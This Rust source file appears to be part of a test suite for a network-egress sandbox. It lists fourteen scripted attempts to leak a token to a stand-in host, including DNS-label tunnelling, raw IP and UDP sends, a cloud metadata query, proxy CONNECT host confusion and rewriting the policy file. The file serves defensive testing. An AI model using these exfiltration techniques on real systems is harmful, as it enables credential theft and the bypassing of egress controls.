// SPDX-License-Identifier: Apache-2.0
//! Sending a credential, or anything, to a place that was not granted.

use crate::attempt::{Attempt, Goal};

const fn sink(name: &'static str, wall: &'static str, script: &'static str) -> Attempt {
    Attempt {
        name,
        goal: Goal::ReachSink,
        wall,
        script,
    }
}

pub(super) const ATTEMPTS: [Attempt; 14] = [
    sink(
        "post it to another host",
        "hosts are granted by name",
        "call('POST', EVIL, '/', [('Authorization', AUTH)], TOKEN.encode())",
    ),
    sink(
        "plain http to that host",
        "scheme and port are part of a grant",
        "call('GET', EVIL, '/?leak=' + TOKEN, port=80, tls=False)",
    ),
    sink(
        "an odd port",
        "scheme and port are part of a grant",
        "call('GET', EVIL, '/?leak=' + TOKEN, port=8443)",
    ),
    sink(
        "a raw IPv4 address",
        "every dial lands on one listener; no name, no way",
        "call('GET', '203.0.113.9', '/?leak=' + TOKEN, sni=EVIL, name=EVIL)",
    ),
    sink(
        "a raw IPv4 address, no HTTP",
        "every dial lands on one listener; no name, no way",
        "raw('203.0.113.9', b'SSH-2.0-' + TOKEN.encode() + b'\\r\\n', port=22, tls=False)",
    ),
    sink(
        "a raw IPv6 address",
        "every dial lands on one listener; no name, no way",
        r"
data = b'GET / HTTP/1.1\r\nHost: x\r\n\r\n' + TOKEN.encode()
raw('2001:db8::9', data, port=80, tls=False)
",
    ),
    sink(
        "in the labels of a DNS query",
        "no query leaves; the stub answers",
        r"
label = TOKEN.replace('_', '-')[:40].encode()
name = bytes([len(label)]) + label + b'\x04evil\x05torno\x04test\x00'
query = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + name + b'\x00\x01\x00\x01'
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.settimeout(2)
stream.sendto(query, ('203.0.113.53', 53))
out(stream.recv(512))
",
    ),
    sink(
        "in a UDP datagram",
        "UDP is dropped",
        r"
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.settimeout(2)
stream.sendto(TOKEN.encode(), ('203.0.113.9', 443))
out(stream.recv(512))
",
    ),
    sink(
        "the cloud's metadata address",
        "every dial lands on one listener; no name, no way",
        "call('GET', '169.254.169.254', '/latest/meta-data/', port=80, tls=False)",
    ),
    sink(
        "a service on the host's loopback",
        "its loopback is its own",
        "raw('127.0.0.1', b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', port=@SINK_PORT@, tls=False)",
    ),
    sink(
        "CONNECT through the proxy on loopback",
        "all entries meet in one pipeline",
        r"
proxy = os.environ.get('https_proxy') or os.environ.get('HTTPS_PROXY') or ''
place = re.match(r'https?://([^:/]+):(\d+)', proxy)
host, port = (place[1], int(place[2])) if place else ('127.0.0.1', 3128)
stream = socket.create_connection((host, port), timeout=6)
stream.sendall(b'CONNECT evil.torno.test:443 HTTP/1.1\r\nHost: evil.torno.test:443\r\n\r\n')
got = stream.recv(65536)
out(got)
if b' 200' in got.split(b'\r\n')[0]:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    stream = context.wrap_socket(stream, server_hostname=EVIL)
    stream.sendall(b'GET /?leak=x HTTP/1.1\r\nHost: evil.torno.test\r\n\r\n')
    out(stream.recv(65536))
",
    ),
    sink(
        "CONNECT allowed-name@other-host",
        "one parser; ambiguity is refused",
        r"
proxy = os.environ.get('https_proxy') or os.environ.get('HTTPS_PROXY') or ''
place = re.match(r'https?://([^:/]+):(\d+)', proxy)
host, port = (place[1], int(place[2])) if place else ('127.0.0.1', 3128)
stream = socket.create_connection((host, port), timeout=6)
head = b'CONNECT api.torno.test:443@evil.torno.test:443 HTTP/1.1\r\nHost: api.torno.test\r\n\r\n'
stream.sendall(head)
got = stream.recv(65536)
out(got)
if b' 200' in got.split(b'\r\n')[0]:
    stream.sendall(b'hello from inside')
    out(stream.recv(65536))
",
    ),
    sink(
        "write a wider torno.toml first",
        "a policy counts by accepted digest",
        r#"
for place in ['torno.toml', os.path.expanduser('~/torno.toml')]:
    try:
        with open(place, 'a') as policy:
            policy.write('\n[[allow]]\nhost = "evil.torno.test"\nmethods = ["GET", "POST"]\n')
        out('wrote ' + place)
    except OSError as error:
        out(error)
call('POST', EVIL, '/', (), TOKEN.encode())
"#,
    ),
    Attempt {
        name: "follow a redirect to the other host",
        goal: Goal::ReachSink,
        wall: "a redirect is a new request",
        script: r"
got = call('GET', API, '/redirect', [('Authorization', AUTH)])
place = re.search(rb'(?i)location: https://([^/\r]+)(\S*)', got)
if place:
    call('GET', place[1].decode(), place[2].decode())
",
    },
];
